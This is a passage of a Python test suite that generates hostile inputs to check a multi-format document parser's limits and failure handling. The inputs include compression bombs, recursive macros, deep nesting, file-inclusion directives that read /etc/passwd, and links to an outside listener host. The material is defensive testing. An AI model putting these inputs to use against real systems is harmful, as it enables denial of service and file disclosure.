@shape("merged-cells.xlsx", 200, 5000, OK, "over_limit")
def xlsx_merged_cells(count):
    rows = "".join(f'<row r="{i}">{cell(f"A{i}")}</row>' for i in range(1, count + 1))
    merges = "".join(f'<mergeCell ref="A{i}:XFD{i}"/>' for i in range(1, count + 1))
    return workbook(rows, f'<mergeCells count="{count}">{merges}</mergeCells>')


@shape("strings.xlsx", 1, 1, OK, "malformed")
def xlsx_strings(_):
    return exchanged("xlsx/report-en.xlsx", {
        "xl/worksheets/sheet1.xml": lambda _: sheet('<row r="1"><c r="A1" t="s"><v>4294967295</v></c><c r="B1" t="s"><v>-1</v></c>'
                                                    '<c r="C1" t="s"><v>99999999999999999999</v></c></row>'),
        "xl/sharedStrings.xml": lambda xml: re.sub(rb'ount="\d+"', b'ount="4294967295"', xml)})


@shape("repeated-string.xlsx", 2000, 200000, OK, "over_limit")
def xlsx_repeated(count):
    """One shared string of 30,000 letters, shown in every cell."""
    long = b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>' + b"words " * 5000 + b"</t></si></sst>"
    rows = "".join(f'<row r="{i}"><c r="A{i}" t="s"><v>0</v></c></row>' for i in range(1, count + 1))
    return exchanged("xlsx/report-en.xlsx", {"xl/worksheets/sheet1.xml": lambda _: sheet(rows), "xl/sharedStrings.xml": lambda _: long})


@shape("rows.xlsx", 20000, 1048576, OK, "over_limit")
def xlsx_rows(count):
    return workbook("".join(f'<row r="{i}"><c r="A{i}"><v>{i}</v></c></row>' for i in range(1, count + 1)))


@shape("sheets.xlsx", 500, 20000, OK, "over_limit", "malformed")
def xlsx_sheets(count):
    """A workbook that names its one sheet many times."""
    def many(xml):
        start = xml.index(b"<sheet ")
        one = xml[start:xml.index(b"/>", start) + 2]
        return xml.replace(one, one * count, 1)
    return exchange("xlsx/report-en.xlsx", "xl/workbook.xml", many)


@shape("format.xlsx", 1000, 100000, OK, "malformed")
def xlsx_format(size):
    code = "[$-F800]" * size + "&quot;" * size + "0.00" * size + ";" * size
    return exchange("xlsx/report-en.xlsx", "xl/styles.xml", lambda xml: xml.replace(b"<numFmts", b"<old", 1).replace(
        b"<fonts", f'<numFmts count="1"><numFmt numFmtId="164" formatCode="{code}"/></numFmts><fonts'.encode(), 1))


def ods(rows):
    content = ('<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
               'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0">'
               f'<office:body><office:spreadsheet><table:table table:name="S">{rows}</table:table></office:spreadsheet></office:body>'
               "</office:document-content>").encode()
    return exchange("ods/parts-en.ods", "content.xml", lambda _: content)


@shape("repeated.ods", 1, 1, OK, "over_limit")
def ods_repeated(_):
    return ods('<table:table-row table:number-rows-repeated="1048576"><table:table-cell table:number-columns-repeated="16384">'
               "<text:p>words</text:p></table:table-cell></table:table-row>")


@shape("repeated-empty.ods", 1, 1, OK)
def ods_repeated_empty(_):
    return ods("<table:table-row><table:table-cell><text:p>words</text:p></table:table-cell></table:table-row>"
               '<table:table-row table:number-rows-repeated="1048575"><table:table-cell table:number-columns-repeated="16384"/>'
               "</table:table-row>")


@shape("repeated-huge.ods", 1, 1, OK, "over_limit", "malformed")
def ods_repeated_huge(_):
    return ods('<table:table-row table:number-rows-repeated="18446744073709551615"><table:table-cell '
               'table:number-columns-repeated="-1"><text:p>words</text:p></table:table-cell></table:table-row>')


@shape("spanned.ods", 100, 20000, OK, "over_limit")
def ods_spanned(count):
    return ods(("<table:table-row>" + '<table:table-cell table:number-columns-spanned="16384" table:number-rows-spanned="1048576">'
                "<text:p>words</text:p></table:table-cell></table:table-row>") * count)


@shape("spaces.odt", 1, 1, OK, "over_limit")
def odt_spaces(_):
    return exchange("odt/mill-en.odt", "content.xml", lambda xml: xml.replace(
        b"<office:text>", b'<office:text><text:p>a<text:s text:c="4294967295"/>b<text:s text:c="99999999999999999999"/></text:p>', 1))


@shape("spans.odt", 100, 20000, OK, "over_limit")
def odt_spans(count):
    table = b"<table:table>" + (b'<table:table-row><table:table-cell table:number-columns-spanned="100000" table:number-rows-spanned='
                                b'"100000" table:number-columns-repeated="100000"><text:p>w</text:p></table:table-cell>'
                                b"</table:table-row>") * count + b"</table:table>"
    return exchange("odt/mill-en.odt", "content.xml", lambda xml: xml.replace(b"<office:text>", b"<office:text>" + table, 1))


@shape("open-quote.csv", 2 << 20, 200 << 20, OK, "over_limit", "malformed")
def csv_quote(size):
    return b'a,b,c\n1,2,3\n4,"' + b"words, words\n" * (size // 13)


@shape("quotes.csv", 1 << 20, 100 << 20, OK, "over_limit", "malformed")
def csv_quotes(size):
    return b"a,b\n" + b'"' * size


@shape("columns.csv", 100000, 1000000, OK, "over_limit")
def csv_columns(count):
    line = b",".join(b"c%d" % i for i in range(count)) + b"\n"
    return line * 3


@shape("delimiters.csv", 1 << 20, 50 << 20, OK, "over_limit", "no_text", "malformed")
def csv_delimiters(size):
    return b"a,b;c\td|e\n" * 3 + b",;\t|" * (size // 4)


# --- mail ------------------------------------------------------------------------------------------------------------------

MAIL = b"From: a@example.org\r\nTo: b@example.org\r\nSubject: mill\r\nDate: Mon, 4 Mar 2024 10:00:00 +0000\r\nMIME-Version: 1.0\r\n"


@shape("parts.eml", 500, 10000, OK, "over_limit", "malformed", "no_text")
def mail_parts(depth_):
    return MAIL + b"".join(b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (i, i) for i in range(depth_)) + \
        b"Content-Type: text/plain\r\n\r\ninnermost words\r\n"


@shape("messages.eml", 300, 10000, OK, "over_limit", "malformed", "no_text")
def mail_messages(depth_):
    return (MAIL + b"Content-Type: message/rfc822\r\n\r\n") * depth_ + MAIL + b"\r\ninnermost words\r\n"


@shape("wide.eml", 3000, 200000, OK, "over_limit")
def mail_wide(count):
    return MAIL + b"Content-Type: multipart/mixed; boundary=b\r\n\r\n" + b"--b\r\nContent-Type: text/plain\r\n\r\nsome words\r\n" * count + b"--b--\r\n"


@shape("headers.eml", 20000, 1000000, OK, "over_limit", "malformed")
def mail_headers(count):
    return MAIL + b"".join(b"X-H%d: v\r\n" % i for i in range(count)) + b"\r\nsome words\r\n"


@shape("recipients.eml", 20000, 1000000, OK, "over_limit", "malformed")
def mail_recipients(count):
    return MAIL + b"Cc: " + b", ".join(b"a%d@example.org" % i for i in range(count)) + b"\r\n\r\nsome words\r\n"


@shape("groups.eml", 5000, 200000, OK, "over_limit", "malformed")
def mail_comments(count):
    return MAIL + b"Cc: " + b"(" * count + b"a@example.org" + b")" * count + b"\r\nReply-To: " + b"g:" * count + b"\r\n\r\nsome words\r\n"


@shape("folded.eml", 1 << 20, 50 << 20, OK, "over_limit", "malformed")
def mail_folded(size):
    return MAIL.replace(b"mill", b"mill" + b"\r\n word" * (size // 7)) + b"\r\nsome words\r\n"


@shape("boundaries.eml", 20000, 2000000, OK, "over_limit", "malformed", "no_text", "empty")
def mail_boundaries(count):
    return MAIL + b"Content-Type: multipart/mixed; boundary=b\r\n\r\n" + b"--b\r\n" * count


@shape("boundary-lines.eml", 2000, 100000, OK, "over_limit", "malformed", "no_text", "empty")
def mail_boundary_lines(count):
    """Every line begins as a boundary of many open parts does."""
    opening = b"".join(b"Content-Type: multipart/mixed; boundary=%s\r\n\r\n--%s\r\n" % (b"b" * i, b"b" * i) for i in range(1, 60))
    return MAIL + opening + b"Content-Type: text/plain\r\n\r\n" + b"--bbbbbb words\r\n--" * count


@shape("base64.eml", 1 << 20, 100 << 20, OK, "over_limit", "no_text", "malformed")
def mail_base64(size):
    return MAIL + b"Content-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\n" + b"=!@#$%^&*()" * (size // 11)


@shape("encoded-words.eml", 20000, 1000000, OK, "over_limit", "malformed")
def mail_words(count):
    return MAIL.replace(b"mill", b"=?utf-8?q?=41?= " * count + b"=?utf-8?b?" + b"QUJD" * count + b"?= " + b"=?" * count) + b"\r\nsome words\r\n"


@shape("parameters.eml", 5000, 500000, OK, "over_limit", "malformed")
def mail_parameters(count):
    return MAIL + b"Content-Type: text/plain; " + b"; ".join(b"name*%d=a" % i for i in range(count)) + b"\r\n\r\nsome words\r\n"


@shape("uuencoded.eml", 20000, 2000000, OK, "over_limit", "malformed")
def mail_uu(count):
    return MAIL + b"\r\nsome words\r\n" + b"begin 644 a.txt\r\n" * count


@shape("flowed.eml", 20000, 2000000, OK, "over_limit")
def mail_flowed(count):
    return MAIL + b"Content-Type: text/plain; format=flowed\r\n\r\n" + b">" * count + b" words \r\n" + b"> words \r\n" * count


@shape("from-lines.mbox", 5000, 500000, OK, "over_limit")
def mbox_lines(count):
    return b"From a@example.org Mon Mar  4 10:00:00 2024\n" * count + b"From: a@example.org\nSubject: x\n\nwords\n"


@shape("messages.mbox", 2000, 100000, OK, "over_limit")
def mbox_messages(count):
    return b"From a@example.org Mon Mar  4 10:00:00 2024\nFrom: a@example.org\nSubject: x\n\nwords\n\n" * count


@shape("parts.mhtml", 300, 10000, OK, "over_limit", "malformed", "no_text")
def mhtml_parts(depth_):
    return b"From: <Saved by Blink>\r\nSnapshot-Content-Location: http://a/\r\nMIME-Version: 1.0\r\n" + b"".join(
        b"Content-Type: multipart/related; type=\"text/html\"; boundary=b%d\r\n\r\n--b%d\r\n" % (i, i) for i in range(depth_)) + \
        b"Content-Type: text/html\r\n\r\n<p>innermost words\r\n"


@shape("frames.mhtml", 300, 20000, OK, "over_limit", "malformed")
def mhtml_frames(count):
    """Frames that show one another."""
    part = b"--b\r\nContent-Type: text/html\r\nContent-Location: http://a/%d\r\n\r\n<p>words<iframe src='http://a/%d'></iframe>" \
           b"<iframe src='http://a/%d'></iframe>\r\n"
    return b"From: <Saved by Blink>\r\nSnapshot-Content-Location: http://a/0\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; " \
           b"type=\"text/html\"; boundary=b\r\n\r\n" + b"".join(part % (i, (i + 1) % count, (i + 1) % count) for i in range(count)) + b"--b--\r\n"


# --- text ------------------------------------------------------------------------------------------------------------------

MARKDOWN = {
    "brackets": lambda n: b"[" * n, "links": lambda n: b"[a](" * n, "images": lambda n: b"![" * n + b"](" * n,
    "backticks": lambda n: b"".join(b"e" + b"`" * i for i in range(int((2 * n) ** 0.5))), "emphasis": lambda n: b"a**b" + b"c* " * n,
    "stars": lambda n: b"*" * n + b"a" + b"*" * n, "mixed": lambda n: b"*_" * n + b"a", "underscores": lambda n: b"_a " * n,
    "definitions": lambda n: b"".join(b"[%d]: /u\n" % i for i in range(n)) + b"[x][0]" * (n // 10),
    "same-definitions": lambda n: b"[a]: " + b"u" * n + b"\n\n" + b"[a]" * n, "quotes": lambda n: b">" * n + b"words",
    "lists": lambda n: b"".join(b" " * (2 * i) + b"- a\n" for i in range(int(n ** 0.5))), "dashes": lambda n: b"- " * n + b"a",
    "table": lambda n: b"|a" * n + b"|\n" + b"|-" * n + b"|\n" + b"|b" * n + b"|\n", "rows": lambda n: b"|a|b|\n|-|-|\n" + b"|\n" * n,
    "short-rows": lambda n: b"|" + b"a|" * int(n ** 0.5) + b"\n|" + b"-|" * int(n ** 0.5) + b"\n" + b"|b\n" * n,
    "html": lambda n: b"<a " * n, "comments": lambda n: b"<!--" * n, "pi": lambda n: b"<?" * n, "cdata": lambda n: b"<![CDATA[" * n,
    "declarations": lambda n: b"<!A " * n, "autolinks": lambda n: b"www.a.b_" * n, "addresses": lambda n: b"a@" * n + b"_.b",
    "schemes": lambda n: b"http://a" * n, "entities": lambda n: b"&#" * n + b"&a" * n, "strikes": lambda n: b"~~a " * n,
    "footnotes": lambda n: b"".join(b"[^%d]: w\n\n" % i for i in range(n)) + b"".join(b"[^%d]" % i for i in range(n)),
    "footnote-loop": lambda n: b"words[^a]\n\n[^a]: " + b"[^a] " * n, "fences": lambda n: b"```a\n" * n, "breaks": lambda n: b"a  \n" * n,
    "setext": lambda n: b"a\n" * n + b"=\n", "tabs": lambda n: b"\t" * n + b"words", "front-matter": lambda n: b"---\n" + b"a: b\n" * n,
    "escapes": lambda n: b"\\" * n, "titles": lambda n: b"[a](u 't" * n, "references": lambda n: b"[" * n + b"a" + b"]" * n + b"\n\n[a]: u\n",
}
for _kind, _grow in MARKDOWN.items():
    SHAPES.append(Shape(f"{_kind}.md", lambda size, grow=_grow: b"# Mill\n\n" * (grow is not MARKDOWN["front-matter"]) + grow(size) + b"\n",
                        20000, 1000000, (OK, "over_limit")))


@shape("groups.rtf", 20000, 1000000, OK, "over_limit", "malformed", "no_text")
def rtf_groups(size):
    return b"{\\rtf1 words " + b"{" * size + b"deep" + b"}" * size + b"}"


@shape("closing.rtf", 20000, 1000000, OK, "over_limit", "malformed")
def rtf_closing(size):
    return b"{\\rtf1 words " + b"}" * size


@shape("bin.rtf", 1, 1, OK, "malformed")
def rtf_bin(_):
    return b"{\\rtf1 words {\\pict\\bin2147483647 x}more \\bin-5 words \\bin99999999999999999999 x}"


@shape("u.rtf", 100000, 5000000, OK, "over_limit", "no_text")
def rtf_u(count):
    return b"{\\rtf1\\uc2147483647 words\\uc0" + b"\\u-10240" * count + b"\\uc0\\u20013 words}"


@shape("words.rtf", 1 << 20, 100 << 20, OK, "over_limit", "malformed", "no_text")
def rtf_words(size):
    return b"{\\rtf1 words \\" + b"a" * size + b"9" * size + b" words}"


@shape("table.rtf", 20000, 2000000, OK, "over_limit")
def rtf_table(size):
    return b"{\\rtf1 words\\par\\trowd" + b"".join(b"\\cellx%d" % i for i in range(size)) + b"\\intbl a" + b"\\cell" * size + b"\\row}"


@shape("nested-tables.rtf", 2000, 200000, OK, "over_limit")
def rtf_nested(size):
    return b"{\\rtf1 words\\par" + b"".join(b"\\itap%d\\intbl a\\nestcell" % i for i in range(1, size)) + b"}"


@shape("fonts.rtf", 20000, 1000000, OK, "over_limit")
def rtf_fonts(size):
    return b"{\\rtf1{\\fonttbl" + b"".join(b"{\\f%d\\fcharset134 a;}" % i for i in range(size)) + b"}words\\f5 \\'b0\\'a1}"


@shape("styles.rtf", 20000, 500000, OK, "over_limit")
def rtf_styles(size):
    return b"{\\rtf1{\\stylesheet" + b"".join(b"{\\s%d\\sbasedon%d a;}" % (i, i + 1) for i in range(size)) + b"}\\s0 words\\par}"


@shape("line.log", 1 << 20, 100 << 20, OK, "over_limit")
def log_line(size):
    return b"2024-03-04 10:00:00 INFO words\n" * 5 + b"2024-03-04 10:00:01 ERROR " + b"words " * (size // 6) + b"\n"


@shape("line.txt", 1 << 20, 60 << 20, OK, "over_limit")
def text_line(size):
    return b"words" * (size // 5)


@shape("combining.txt", 1 << 20, 30 << 20, OK, "over_limit")
def text_combining(size):
    return "a".encode() + "\u0301".encode() * (size // 2) + b" words\n"


@shape("bidi.txt", 100000, 10000000, OK, "over_limit")
def text_bidi(count):
    return ("words \u202e\u2066" * count).encode()


@shape("blank-lines.txt", 1 << 20, 100 << 20, OK, "over_limit")
def text_blank(size):
    return b"words\n" + b"\n" * size + b"more words\n"


@shape("headings.txt", 20000, 1000000, OK, "over_limit")
def text_headings(count):
    return b"".join(b"%d.1.1 A heading of it\n\n" % i for i in range(count))


@shape("contents.txt", 20000, 500000, OK, "over_limit")
def text_contents(count):
    return b"Contents\n\n" + b"".join(b"Chapter %d .......... %d\n" % (i, i) for i in range(count))


MARKUP = {
    "depth.tex": lambda n: b"\\documentclass{article}\n\\begin{document}\n" + b"\\begin{itemize}\\item " * n + b"words",
    "braces.tex": lambda n: b"\\documentclass{article}\n\\begin{document}\nwords " + b"{" * n + b"\\section{" * n,
    "macros.tex": lambda n: b"\\documentclass{article}\n\\def\\a{\\a\\a}\n\\newcommand{\\b}{\\b\\b}\n\\begin{document}\n\\a\\b words" + b"\\a" * n,
    "input.tex": lambda n: b"\\documentclass{article}\n\\begin{document}\n" + b"\\input{/etc/passwd}\\include{/etc/passwd}" * n + b"words",
    "depth.rst": lambda n: b"Mill\n====\n\n" + b"".join(b" " * i + b"* a\n\n" for i in range(int(n ** 0.5))),
    "include.rst": lambda n: b"Mill\n====\n\n.. include:: /etc/passwd\n.. raw:: html\n   :url: " + LISTENER.encode() + b"\n\nwords\n",
    "adornments.rst": lambda n: b"".join(b"A\n" + bytes([33 + i % 15]) * 3 + b"\n\nw\n\n" for i in range(n)),
    "roles.rst": lambda n: b"Mill\n====\n\n" + b":a:`" * n + b"``" * n,
    "table.rst": lambda n: b"Mill\n====\n\n" + b"+-" * n + b"+\n" + b"|a" * n + b"|\n" + b"+-" * n + b"+\n",
    "templates.wiki": lambda n: b"== Mill ==\nwords " + b"{{" * n + b"a" + b"}}" * n,
    "links.wiki": lambda n: b"== Mill ==\nwords " + b"[[" * n + b"a" + b"]]" * n,
    "tables.wiki": lambda n: b"== Mill ==\nwords\n" + b"{|\n|a\n" * n,
    "tags.wiki": lambda n: b"== Mill ==\nwords\n" + b"<ref>" * n + b"<nowiki>" * n,
    "quotes.wiki": lambda n: b"== Mill ==\nwords\n" + b"'''''" * n,
    "blocks.adoc": lambda n: b"= Mill\n\n" + b"====\nwords\n" * n,
    "include.adoc": lambda n: b"= Mill\n\ninclude::/etc/passwd[]\n\n" + b"{a}" * n + b" words\n",
    "stars.org": lambda n: b"* Mill\nwords\n" + b"*" * n + b" deep\n" + b"#+BEGIN_SRC\n" * n,
    "drawers.org": lambda n: b"* Mill\nwords\n" + b":PROPERTIES:\n" * n,
    "macros.1": lambda n: b".TH MILL 1\n.SH NAME\nwords\n" + b".if n .if n " * n + b"\n.so /etc/passwd\n.de XX\n.XX\n..\n.XX\n",
    "escapes.1": lambda n: b".TH MILL 1\n.SH NAME\nwords\n" + b"\\f[" * n + b"\\*(" * n + b"\n",
}
for _kind, _grow in MARKUP.items():
    SHAPES.append(Shape(_kind, _grow, 20000, 1000000, (OK, "over_limit")))


# --- records ---------------------------------------------------------------------------------------------------------------

RECORDS = {
    "properties.ics": lambda n: b"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nSUMMARY:words\r\n" + b"X-A;B=C:d\r\n" * n + b"END:VEVENT\r\nEND:VCALENDAR\r\n",
    "depth.ics": lambda n: b"BEGIN:VCALENDAR\r\nVERSION:2.0\r\n" + b"BEGIN:VEVENT\r\n" * n + b"SUMMARY:words\r\n",
    "line.ics": lambda n: b"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nSUMMARY:" + b"words " * (10 * n) + b"\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n",
    "folded.ics": lambda n: b"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nSUMMARY:a" + b"\r\n b" * (5 * n) + b"\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n",
    "parameters.ics": lambda n: b"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nSUMMARY" + b";A=\"b\"" * n + b":words\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n",
    "rules.ics": lambda n: b"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nSUMMARY:words\r\nDTSTART:20240304T100000Z\r\nRRULE:FREQ=SECONDLY;COUNT=999999999;BYDAY=" + b"MO," * n + b"\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n",
    "properties.vcf": lambda n: b"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:words\r\n" + b"TEL;TYPE=HOME:1\r\n" * n + b"END:VCARD\r\n",
    "cards.vcf": lambda n: b"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:words\r\nEND:VCARD\r\n" * n,
    "photo.vcf": lambda n: b"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:words\r\nPHOTO;ENCODING=b:" + b"QUJD" * (10 * n) + b"\r\nEND:VCARD\r\n",
    "quoted.vcf": lambda n: b"BEGIN:VCARD\r\nVERSION:2.1\r\nFN;ENCODING=QUOTED-PRINTABLE:words" + b"=\r\n=41" * n + b"\r\nEND:VCARD\r\n",
    "braces.bib": lambda n: b"@article{a, title = {words " + b"{" * n + b"}" * n + b"}}\n",
    "open.bib": lambda n: b"@article{a, title = {words}}\n" + b"@article{a, title = {" * n,
    "strings.bib": lambda n: b"@string{a0 = \"ha\"}\n" + b"".join(b"@string{a%d = a%d # a%d # a%d}\n" % (i, i - 1, i - 1, i - 1) for i in range(1, min(n, 2000))) + b"@article{x, title = a%d}\n" % (min(n, 2000) - 1),
    "joined.bib": lambda n: b"@article{x, title = \"words\"" + b" # \"b\"" * n + b"}\n",
    "fields.bib": lambda n: b"@article{x, " + b"".join(b"f%d = {v}, " % i for i in range(n)) + b"}\n",
    "authors.bib": lambda n: b"@article{x, title = {words}, author = {" + b"A, B and " * n + b"C}}\n",
    "tags.ris": lambda n: b"TY  - JOUR\r\nTI  - words\r\n" + b"AU  - A, B\r\n" * n + b"ER  - \r\n",
    "line.ris": lambda n: b"TY  - JOUR\r\nTI  - " + b"words " * (10 * n) + b"\r\nER  - \r\n",
    "open.ris": lambda n: b"TY  - JOUR\r\nTI  - words\r\n" * n,
    "cues.srt": lambda n: b"".join(b"%d\n00:00:01,000 --> 00:00:02,000\nw\n\n" % i for i in range(1, n)),
    "times.srt": lambda n: b"1\n00:00:01,000 --> 00:00:02,000\nwords\n\n2\n" + b"9" * n + b":99:99,999 --> 00:00:00,000\nmore words\n\n",
    "tags.srt": lambda n: b"1\n00:00:01,000 --> 00:00:02,000\n" + b"<i>" * n + b"words" + b"{\\an8}" * n + b"\n\n",
    "line.vtt": lambda n: b"WEBVTT\n\n00:01.000 --> 00:02.000\n" + b"words " * (10 * n) + b"\n",
    "arrows.vtt": lambda n: b"WEBVTT\n\n00:01.000 --> 00:02.000\nwords\n" + b"00:01.000 --> 00:02.000\n" * n,
    "sections.ini": lambda n: b"[a]\nb = words\n" + b"[a]\n" * n,
    "keys.ini": lambda n: b"[a]\n" + b"b = words\n" * n,
    "depth.toml": lambda n: b"a = " + b"[" * n + b"1" + b"]" * n + b"\nb = 'words'\n",
    "tables.toml": lambda n: b"a = 'words'\n[" + b"a." * n + b"a]\nb = 1\n",
    "inline.toml": lambda n: b"a = 'words'\nb = " + b"{a=" * n + b"1" + b"}" * n + b"\n",
    "continued.properties": lambda n: b"a = words\nb = " + b"\\\n c" * n + b"\n",
    "keys.properties": lambda n: b"a=\\u0000words\\u" * n,
    "cells.ipynb": lambda n: json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [{"cell_type": "markdown", "metadata": {}, "source": ["words"]}] * min(n, 200000)}).encode(),
    "lines.ipynb": lambda n: json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [{"cell_type": "code", "metadata": {}, "execution_count": 1, "outputs": [{"output_type": "stream", "name": "stdout", "text": ["w\n"] * n}], "source": ["x = 1\n"] * n}]}).encode(),
    "depth.ipynb": lambda n: b'{"nbformat": 4, "nbformat_minor": 5, "metadata": {"a": ' + b"[" * n + b"]" * n + b'}, "cells": [{"cell_type": "markdown", "metadata": {}, "source": ["words"]}]}',
    "picture.ipynb": lambda n: json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [{"cell_type": "code", "metadata": {}, "execution_count": 1, "source": ["x = 1\n"], "outputs": [{"output_type": "display_data", "metadata": {}, "data": {"image/png": "QUJD" * (10 * n), "text/html": "<table>" * n}}]}]}).encode(),
}
for _kind, _grow in RECORDS.items():
    SHAPES.append(Shape(_kind, _grow, 20000, 1000000, (OK, "over_limit", "malformed", "no_text")))

CODE = {
    "deep.py": lambda n: b"x = " + b"(" * n + b"1" + b")" * n + b"\n", "deep.c": lambda n: b"int f(void) {" + b"{" * n + b"}" * n + b"}\n",
    "deep.java": lambda n: b"class A { int f() { return " + b"(" * n + b"1" + b")" * n + b"; } }\n", "deep.cpp": lambda n: b"namespace a {" * n + b"}" * n,
    "deep.js": lambda n: b"f(" * n + b")" * n, "deep.ts": lambda n: b"let a: " + b"A<" * n + b">" * n, "deep.go": lambda n: b"package a\nfunc f() {" + b"if x {" * n + b"}" * n + b"}\n",
    "deep.rs": lambda n: b"fn f() {" + b"if x {" * n + b"}" * n + b"}\n", "deep.rb": lambda n: b"if x\n" * n + b"words\n" + b"end\n" * n,
}
for _kind, _grow in CODE.items():
    SHAPES.append(Shape(_kind, _grow, 5000, 100000, (OK, "over_limit", "no_text")))


# --- PDF -------------------------------------------------------------------------------------------------------------------

def pdf(objects, trailer=b"", version=b"1.7"):
    """Objects numbered from 1, as bytes; the first is the catalog."""
    out, at = b"%PDF-" + version + b"\n", []
    for number, content in enumerate(objects, 1):
        at.append(len(out))
        out += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + b"".join(b"%010d 00000 n \n" % place for place in at)
    return out + b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, start)


def stream(content, entries=b""):
    return b"<< /Length %d %s >>\nstream\n" % (len(content), entries) + content + b"\nendstream"


FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
WORDS = b"BT /F 12 Tf 50 700 Td (The wheel of the mill turns slowly) Tj ET"


def page_pdf(page=b"", contents=WORDS, more=(), catalog=b"", pages=b"/Kids [3 0 R] /Count 1", entries=b""):
    return pdf([b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog, b"<< /Type /Pages %s >>" % pages,
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F 5 0 R >> >> /Contents 4 0 R %s >>" % page,
                stream(contents, entries), FONT, *more])


@shape("pages-loop.pdf", 1, 1, "malformed", "empty", "no_text", OK)
def pdf_pages_loop(_):
    return page_pdf(pages=b"/Kids [2 0 R 3 0 R 2 0 R] /Count 3")


@shape("page-count.pdf", 1000000, 2147483647, OK, "malformed", "no_text", "over_limit")
def pdf_page_count(count):
    return page_pdf(pages=b"/Kids [3 0 R] /Count %d" % count)


@shape("same-page.pdf", 2000, 1000000, OK, "over_limit", "malformed")
def pdf_same_page(count):
    return page_pdf(pages=b"/Kids [" + b"3 0 R " * count + b"] /Count %d" % count)


@shape("page-size.pdf", 1, 1, OK, "malformed", "no_text")
def pdf_page_size(_):
    return page_pdf(page=b"/MediaBox [0 0 1e30 -1e30] /UserUnit 1e20 /Rotate 2147483647")


@shape("outline.pdf", 2000, 200000)
def pdf_outline(depth_):
    items = [b"<< /Title (T) /First %d 0 R /Last %d 0 R /Count 1 /Dest [3 0 R /Fit] >>" % (i + 1, i + 1) for i in range(7, depth_ + 7)]
    return page_pdf(catalog=b"/Outlines 6 0 R", more=[b"<< /First 7 0 R /Last 7 0 R /Count 1 >>", *items, b"<< /Title (E) >>"])


@shape("outline-loop.pdf", 1, 1)
def pdf_outline_loop(_):
    return page_pdf(catalog=b"/Outlines 6 0 R", more=[b"<< /First 7 0 R >>", b"<< /Title (T) /First 7 0 R /Next 8 0 R >>", b"<< /Title (U) /Next 7 0 R /First 6 0 R >>"])


@shape("bomb.pdf", 50 << 20, 1 << 30, OK, "over_limit", "no_text")
def pdf_bomb(size):
    return page_pdf(contents=pressed(size, zlib.compressobj(9), WORDS), entries=b"/Filter /FlateDecode")


@shape("double-bomb.pdf", 20 << 20, 1 << 30, OK, "over_limit", "no_text")
def pdf_double_bomb(size):
    return page_pdf(contents=zlib.compress(pressed(size, zlib.compressobj(9), WORDS), 9), entries=b"/Filter [/FlateDecode /FlateDecode]")


@shape("filters.pdf", 100, 100000, OK, "no_text", "malformed")
def pdf_filters(count):
    return page_pdf(entries=b"/Filter [" + b"/ASCIIHexDecode " * count + b"]")


@shape("glyphs.pdf", 20000, 1000000, OK, "over_limit")
def pdf_glyphs(count):
    return page_pdf(contents=b"BT /F 1 Tf 50 700 Td " + b"(w) Tj " * count + b" ET")


@shape("states.pdf", 20000, 1000000)
def pdf_states(count):
    return page_pdf(contents=b"q " * count + WORDS + b" Q" * count)


@shape("rules.pdf", 5000, 300000, OK, "over_limit")
def pdf_rules(count):
    return page_pdf(contents=b"".join(b"%d %d m %d %d l S " % (i % 600, i % 790, (i * 7) % 600, i % 790) for i in range(count)) + WORDS)


@shape("grid.pdf", 60, 600, OK, "over_limit")
def pdf_grid(count):
    lines = b"".join(b"%f 0 m %f 792 l S 0 %f m 612 %f l S " % (612 * i / count, 612 * i / count, 792 * i / count, 792 * i / count) for i in range(count))
    return page_pdf(contents=lines + b"BT /F 1 Tf 1 700 Td (w) Tj 3 3 Td (w) Tj ET " * count)


@shape("form-tree.pdf", 12, 40, OK, "over_limit", "no_text")
def pdf_form_tree(depth_):
    """Forms that show the next one twice: 2^n words."""
    forms = [stream(b"/X Do /X Do", b"/Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources << /XObject << /X %d 0 R >> >>" % (i + 1))
             for i in range(6, 6 + depth_)]
    last = stream(WORDS, b"/Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources << /Font << /F 5 0 R >> >>")
    return page_pdf(page=b"/Resources << /XObject << /X 6 0 R >> >>", contents=b"/X Do", more=[*forms, last])


@shape("annotations.pdf", 2000, 200000, OK, "over_limit")
def pdf_annotations(count):
    return page_pdf(page=b"/Annots [" + b"6 0 R " * count + b"]", more=[
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (%s) >> >>" % LISTENER.encode()])


@shape("actions.pdf", 1, 1)
def pdf_actions(_):
